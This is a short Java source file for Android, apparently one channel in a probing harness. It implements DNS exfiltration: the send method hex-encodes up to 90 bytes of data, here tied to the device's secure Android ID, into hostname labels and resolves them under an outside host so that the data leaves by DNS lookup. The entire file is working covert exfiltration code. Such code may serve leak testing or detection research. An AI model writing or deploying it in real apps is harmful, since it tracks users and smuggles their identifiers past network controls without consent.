package org.harness.probe.ways;

import android.content.Context;
import java.net.InetAddress;
import java.net.UnknownHostException;

/** What is to be sent as a name that is looked up, in hexadecimal (RFC 1035: 63 characters a label, 255 a name). */
final class Dns implements Way {
    @Override
    public String[] only() {
        return new String[] {"settings.secure.android_id"};
    }

    @Override
    public String name() {
        return "dns";
    }

    @Override
    public String send(Context context, String form, byte[] body) throws Exception {
        StringBuilder label = new StringBuilder();
        for (int i = 0; i < 90 && i < body.length; i++) {
            label.append(i > 0 && i % 30 == 0 ? "." : "").append(Character.forDigit(body[i] >> 4 & 15, 16)).append(Character.forDigit(body[i] & 15, 16));
        }
        try {
            InetAddress.getByName(label + "." + form.replace('_', '-') + "." + Ways.host(name()));
            return "answered";
        } catch (UnknownHostException unknown) {
            return "unknown";
        }
    }
}
